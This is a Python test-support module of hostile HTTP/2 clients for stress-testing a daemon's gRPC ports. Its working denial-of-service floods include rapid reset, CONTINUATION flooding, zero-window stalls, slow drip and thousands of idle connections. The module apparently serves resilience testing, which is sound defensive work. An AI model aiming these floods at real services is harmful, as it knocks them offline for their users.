"""Hostile HTTP/2 clients for the daemon's gRPC ports, written with hyperframe and hpack (an implementation
independent of grpc). Run as a separate process so its CPU and GIL stay apart from the probes of the test:

    python -m tests.support.h2attack KIND TARGET SECONDS [PATH]

KIND: no-bodies (one connection, 4 calls whose bodies never come), window-zero (initial window 0, then 4
calls), drip (64 connections, one byte every 4 s), drip-200 (the same with 200), idle / idle-2000 (200 / 2,000
connections that send the preface, then nothing), hold-2000 (2,000 connections that send nothing), rapid-reset (a
call then RST_STREAM in a loop), continuation / continuation-empty (one HEADERS, then CONTINUATION frames of
header bytes / empty frames, without end). TARGET: host:port or a unix socket path. Prints one JSON line of
counts when done.
"""

from __future__ import annotations

import contextlib
import json
import socket
import sys
import threading
import time
from collections.abc import Callable

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"


def connect(target: str) -> socket.socket:
    if target.startswith("/"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(target)
    else:
        host, port = target.rsplit(":", 1)
        s = socket.create_connection((host, int(port)), timeout=5)
    s.settimeout(5)
    return s


def request_headers(path: str) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "attack"),
            ("content-type", "application/grpc"), ("te", "trailers")]


def drain(sock: socket.socket, counts: dict[str, int]) -> threading.Thread:
    """Read and drop what the server sends (so its writes never back up), counting bytes; ends at EOF."""

    def run() -> None:
        with contextlib.suppress(OSError):
            while True:
                data = sock.recv(65536)
                if not data:
                    break
                counts["received"] = counts.get("received", 0) + len(data)
        counts["closed_by_server"] = counts.get("closed_by_server", 0) + 1

    t = threading.Thread(target=run, daemon=True)
    t.start()
    return t


def opened(target: str, settings: dict[int, int] | None = None) -> socket.socket:
    s = connect(target)
    frame = SettingsFrame(0)
    frame.settings = settings or {}
    s.sendall(PREFACE + frame.serialize())
    return s


def held_calls(target: str, seconds: float, path: str, window: int | None) -> dict[str, int]:
    """4 calls on one connection: without bodies (window None), or complete with the initial window 0."""
    counts: dict[str, int] = {}
    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0} if window == 0 else {}
    s = opened(target, settings)
    enc = Encoder()
    out = b""
    for i in range(4):
        sid = 1 + 2 * i
        headers = HeadersFrame(sid, data=enc.encode(request_headers(path)), flags=["END_HEADERS"])
        out += headers.serialize()
        if window == 0:
            out += DataFrame(sid, data=b"\x00\x00\x00\x00\x00", flags=["END_STREAM"]).serialize()
    s.sendall(out)
    counts["calls"] = 4
    if window == 0:  # never read: the answers cannot be sent (window 0), nor would they be read
        time.sleep(seconds)
    else:
        drain(s, counts)
        time.sleep(seconds)
    s.close()
    return counts


def drip(target: str, seconds: float, connections: int = 64, every: float = 4.0) -> dict[str, int]:
    """`connections` connections each sending one byte of a preface every `every` seconds; reopened when closed."""
    counts = {"connections": 0, "bytes": 0, "closed_by_server": 0}
    socks: list[tuple[socket.socket, int]] = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(socks) < connections:
            try:
                socks.append((connect(target), 0))
                counts["connections"] += 1
            except OSError:
                counts["connect_failed"] = counts.get("connect_failed", 0) + 1
                break
        kept = []
        for s, sent in socks:
            try:
                s.sendall(PREFACE[sent % len(PREFACE):sent % len(PREFACE) + 1])
                counts["bytes"] += 1
                kept.append((s, sent + 1))
            except OSError:
                counts["closed_by_server"] += 1
                s.close()
        socks = kept
        time.sleep(min(every, max(0.0, end - time.monotonic())))
    for s, _ in socks:
        s.close()
    return counts


def idle(target: str, seconds: float, connections: int, preface: bool = True) -> dict[str, int]:
    """`connections` connections that send the preface and SETTINGS (or, without `preface`, not a byte), then
    nothing (held until a server limit ends them); reopened when the server closes one."""
    counts = {"connections": 0, "closed_by_server": 0}
    socks: dict[socket.socket, dict[str, int]] = {}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for s, state in list(socks.items()):
            if state.get("closed_by_server"):
                counts["closed_by_server"] += 1
                s.close()
                del socks[s]
        while len(socks) < connections and time.monotonic() < end:
            try:
                s = opened(target) if preface else connect(target)
            except OSError:
                counts["connect_failed"] = counts.get("connect_failed", 0) + 1
                break
            seen: dict[str, int] = {}
            drain(s, seen)
            socks[s] = seen
            counts["connections"] += 1
        time.sleep(0.1)
    counts["held_at_end"] = len(socks)
    for s in socks:
        s.close()
    return counts


def rapid_reset(target: str, seconds: float, path: str, complete: bool = True) -> dict[str, int]:
    """HEADERS (and, when `complete`, the call's empty message) then RST_STREAM CANCEL, stream after stream, as
    fast as the connection takes them; a new connection when the server closes one."""
    counts = {"streams": 0, "connections": 0, "closed_by_server": 0}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            s = opened(target)
        except OSError:
            counts["connect_failed"] = counts.get("connect_failed", 0) + 1
            time.sleep(0.05)
            continue
        counts["connections"] += 1
        reader = drain(s, counts)
        enc = Encoder()
        sid = 1
        try:
            while time.monotonic() < end and reader.is_alive() and sid < 2**31 - 200:
                batch = b""
                for _ in range(100):
                    batch += HeadersFrame(sid, data=enc.encode(request_headers(path)), flags=["END_HEADERS"]
                                          ).serialize()
                    if complete:  # the whole call (an empty message), so the server starts its handler
                        batch += DataFrame(sid, data=b"\x00\x00\x00\x00\x00", flags=["END_STREAM"]).serialize()
                    batch += RstStreamFrame(sid, error_code=8).serialize()  # CANCEL
                    sid += 2
                s.sendall(batch)
                counts["streams"] += 100
        except OSError:
            pass
        s.close()
    return counts


def continuation(target: str, seconds: float, path: str, filler: bytes) -> dict[str, int]:
    """HEADERS without END_HEADERS, then CONTINUATION frames of `filler` without end; a new connection when the
    server cuts one off. Counts the bytes sent per connection before the cut."""
    counts = {"connections": 0, "frames": 0, "bytes": 0, "closed_by_server": 0, "max_bytes_on_one": 0}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            s = opened(target)
        except OSError:
            counts["connect_failed"] = counts.get("connect_failed", 0) + 1
            time.sleep(0.05)
            continue
        counts["connections"] += 1
        reader = drain(s, counts)
        sent = 0
        try:
            s.sendall(HeadersFrame(1, data=Encoder().encode(request_headers(path))).serialize())
            frames = ContinuationFrame(1, data=filler).serialize() * (4 if filler else 2000)
            n = 4 if filler else 2000
            while time.monotonic() < end and reader.is_alive():
                s.sendall(frames)
                sent += len(frames)
                counts["frames"] += n
        except OSError:
            pass
        counts["bytes"] += sent
        counts["max_bytes_on_one"] = max(counts["max_bytes_on_one"], sent)
        s.close()
        reader.join(2)
    return counts


ATTACKS: dict[str, Callable[[str, float, str], dict[str, int]]] = {
    "no-bodies": lambda t, s, p: held_calls(t, s, p, None),
    "window-zero": lambda t, s, p: held_calls(t, s, p, 0),
    "drip": lambda t, s, p: drip(t, s),
    "rapid-reset": rapid_reset,
    "idle": lambda t, s, p: idle(t, s, 200),
    "idle-2000": lambda t, s, p: idle(t, s, 2000),
    "hold-2000": lambda t, s, p: idle(t, s, 2000, preface=False),
    "drip-200": lambda t, s, p: drip(t, s, connections=200),
    # Header bytes (4 KB literals): the block grows; empty frames: it never does, each frame costs a parse.
    "continuation": lambda t, s, p: continuation(t, s, p, Encoder().encode([("x-filler", "a" * 4000)])),
    "continuation-empty": lambda t, s, p: continuation(t, s, p, b""),
}


def main(argv: list[str]) -> int:
    kind, target, seconds = argv[0], argv[1], float(argv[2])
    path = argv[3] if len(argv) > 3 else HEALTH_CHECK
    counts = ATTACKS[kind](target, seconds, path)
    print(json.dumps({"attack": kind, **counts}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
